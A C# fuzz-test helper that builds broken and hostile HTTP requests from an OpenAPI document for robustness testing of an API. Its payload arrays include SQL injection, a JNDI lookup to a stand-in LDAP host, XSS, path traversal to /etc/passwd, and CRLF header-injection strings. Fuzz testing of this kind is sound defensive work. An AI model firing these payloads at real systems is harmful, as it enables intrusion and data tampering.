using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;

namespace Actors.Api.Tests.OpenApi;

/// <summary>
/// Makes requests that mean harm, or are broken, out of an OpenAPI document: each takes an operation as it is described and
/// spoils one or more of its parts. The same seed makes the same requests.
/// </summary>
internal sealed class HostileRequests(JsonNode document, int seed)
{
    /// <summary>Stands in everything that must not appear in a log.</summary>
    public const string Mark = "INJECTED7f3a";

    private static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "null", "undefined", "true", "-1", "0", "1e400", "NaN", "99999999999999999999999999", "0x10",
        "'; drop table events; --", "' or '1'='1", "\\", "\"", "%", "%s%s%n", "${jndi:ldap://x/a}", "{{7*7}}", "<script>alert(1)</script>",
        "../../etc/passwd", "..%2f..%2f", "\r\nSet-Cookie: a=b", $"\n{{\"LogLevel\":\"Critical\",\"Message\":\"{Mark}\"}}", Mark,
        "\u202e\u200b\ufeff", "\ud83d\ude42", "\uffff", "é", "ﷺ", "2026-13-45T99:99:99Z", "0000-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999+14:00",
        "2026-01-01T00:00:00", "00000000-0000-0000-0000-000000000000", "not-a-uuid", "-", "client_-", "[", "[\"user\",", "{}", "*", new string('a', 5_000),
        new string('é', 3_000), string.Concat(Enumerable.Repeat("\U0001F642", 2_000)),
    ];

    private static readonly string[] Json =
    [
        "null", "true", "0", "-1", "1e400", "-1e-400", "123456789012345678901234567890", "1.7976931348623157e309", "\"\"", "\"\\u0000\"", "\"\\ud800\"", "[]", "{}",
        "[[[[]]]]", "[null]", "{\"\":null}", "{\"__proto__\":{}}", "\"'; drop table facts; --\"", $"\"{Mark}\\r\\n\"", "\"2026-01-01T00:00:00\"",
        "\"9999-12-31T23:59:59Z\"", "\"0001-01-01T00:00:00Z\"", "[1,2,3]", "{\"relations\":[{}]}", "{\"relations\":[{\"relation\":\"\",\"subject_type\":1}]}",
        "{\"a\":1e308}", "{\"a\":1,\"a\":2}", new string('[', 63) + new string(']', 63), new string('[', 2_000) + new string(']', 2_000),
        "\"" + new string('x', 300_000) + "\"", "{\"a\":\"" + new string('y', 70_000) + "\"}",
    ];

    private static readonly string[] Bodies =
    [
        "", " ", "{", "}", "[", "\"", "nul", "{\"content\":", "{\"a\":1}}", "\ufeff{}", "[]", "[{}]", "0", "\"text\"", "null", "// comment\n{}", "{'a':1}", "{\"a\":1,}",
        new string('{', 5_000), "{\"items\":" + new string('[', 500),
    ];

    private static readonly string[] MediaTypes =
        ["text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json; charset=none", "application/x-www-form-urlencoded", "*/*", "application/merge-patch+json"];

    private readonly Random _random = new(seed);

    private readonly (string Method, string Path, JsonNode Operation)[] _operations =
    [
        .. document["paths"]!.AsObject().SelectMany(path => path.Value!.AsObject()
            .Where(member => member.Key != "parameters").Select(member => (member.Key.ToUpperInvariant(), path.Key, member.Value!))),
    ];

    public int OperationCount => _operations.Length;

    /// <summary>The next request, of the operation of that number; with a line that says what it is.</summary>
    public (HttpRequestMessage Request, string Name) Next(int number)
    {
        var (method, path, operation) = _operations[number % _operations.Length];
        if (_random.Next(20) == 0)
        {
            method = Any(["PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "FOO", "POST", "GET"]);
        }

        var parameters = operation["parameters"]?.AsArray().Select(Resolve).ToArray() ?? [];
        foreach (var parameter in parameters.Where(p => (string)p["in"]! == "path"))
        {
            path = path.Replace($"{{{parameter["name"]}}}", Escape(IsSpoilt() ? Any(Texts) : TextOf(parameter)), StringComparison.Ordinal);
        }

        var query = string.Join('&', parameters.Where(p => (string)p["in"]! == "query").Where(p => IsRequired(p) || _random.Next(3) == 0).SelectMany(p =>
            Enumerable.Repeat(0, _random.Next(25) == 0 ? 2 : 1).Select(_ => $"{Escape((string)p["name"]!)}={(IsSpoilt() ? Spoilt() : Escape(TextOf(p)))}")));
        query += _random.Next(15) == 0 ? $"&{Spoilt()}={Spoilt()}" : "";
        var request = new HttpRequestMessage(new HttpMethod(method), new Uri(path + (query.Length > 0 ? "?" + query : ""), UriKind.Relative));
        if (operation["requestBody"] is { } described)
        {
            request.Content = Content(Example(described), Resolve(described)["content"]!.AsObject().First().Key);
        }

        if (_random.Next(10) == 0)
        {
            request.Headers.TryAddWithoutValidation("Idempotency-Key", string.Concat(Any(Texts).Where(c => c is >= ' ' and <= '~')));
        }

        if (_random.Next(10) == 0)
        {
            request.Headers.TryAddWithoutValidation("If-Match", string.Concat(Any(Texts).Where(c => c is >= ' ' and <= '~')));
        }

        return (request, $"{seed}/{number} {method} {path}?{query}");
    }

    private ByteArrayContent Content(JsonNode example, string mediaTypeOfExample)
    {
        var bytes = _random.Next(8) switch
        {
            0 => Encoding.UTF8.GetBytes(Any(Bodies)),
            1 => Damaged(Encoding.UTF8.GetBytes(Written(example))),
            2 => Encoding.Unicode.GetBytes(Written(example)),
            _ => Encoding.UTF8.GetBytes(WithSpoiltMembers(example)),
        };
        var content = new ByteArrayContent(bytes);
        if (!MediaTypeHeaderValue.TryParse(_random.Next(12) == 0 ? Any(MediaTypes) : mediaTypeOfExample, out var mediaType))
        {
            mediaType = new MediaTypeHeaderValue("application/json");
        }

        content.Headers.ContentType = mediaType;
        if (_random.Next(40) == 0)
        {
            content.Headers.ContentEncoding.Add("gzip");
        }

        return content;
    }

    // Replaces members by what they must not be, as text: most of it is no JSON a writer would make.
    private string WithSpoiltMembers(JsonNode example)
    {
        if (example is not JsonObject members)
        {
            // Lines of JSON, of which each is spoilt by itself.
            return example is JsonValue ? string.Join('\n', Written(example).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => WithSpoiltMembers(JsonNode.Parse(line)!))) : Written(example);
        }

        var parts = members.Select(member => $"{JsonValue.Create(member.Key).ToJsonString()}:{(IsSpoilt() ? Any(Json) : member.Value?.ToJsonString() ?? "null")}").ToList();
        if (_random.Next(10) == 0)
        {
            parts.Add($"\"{Mark}\":{Any(Json)}");
        }

        return "{" + string.Join(',', parts.Where(_ => _random.Next(12) > 0)) + "}";
    }

    private static string Written(JsonNode example) => example is JsonValue ? (string)example! : example.ToJsonString();

    private byte[] Damaged(byte[] bytes)
    {
        for (var i = 0; i < 3; i++)
        {
            bytes[_random.Next(bytes.Length)] = (byte)_random.Next(256);
        }

        return bytes[..(bytes.Length - _random.Next(3))];
    }

    private JsonNode Example(JsonNode described)
    {
        var content = Resolve(described)["content"]!.AsObject().First().Value!;
        return content["example"] ?? content["examples"]?.AsObject().First().Value!["value"] ?? throw new InvalidOperationException("A body without an example.");
    }

    private static string TextOf(JsonNode parameter)
    {
        var example = parameter["example"] ?? parameter["schema"]?["example"] ?? parameter["examples"]?.AsObject().First().Value!["value"];
        return example switch
        {
            null => "1",
            JsonValue value when value.TryGetValue(out string? text) => text,
            _ => example.ToJsonString(),
        };
    }

    // References of the document's own components.
    private JsonNode Resolve(JsonNode? node)
    {
        while (node!["$ref"] is { } reference)
        {
            node = ((string)reference!).Split('/').Skip(1).Aggregate(document, (at, name) => at[name]!);
        }

        return node;
    }

    private static bool IsRequired(JsonNode parameter) => parameter["required"] is { } required && (bool)required;

    private bool IsSpoilt() => _random.Next(3) == 0;

    // Some of it is no valid percent-encoding, or encodes no valid text.
    private string Spoilt() => _random.Next(6) switch
    {
        0 => Any(["%", "%zz", "%ff%fe", "%c3%28", "%ed%a0%80", "%00", "a%00b", "%0d%0aX-Evil:1", "%25%32%65"]),
        _ => Escape(Any(Texts)),
    };

    private T Any<T>(T[] of) => of[_random.Next(of.Length)];

    private static string Escape(string text) => Uri.EscapeDataString(text);
}
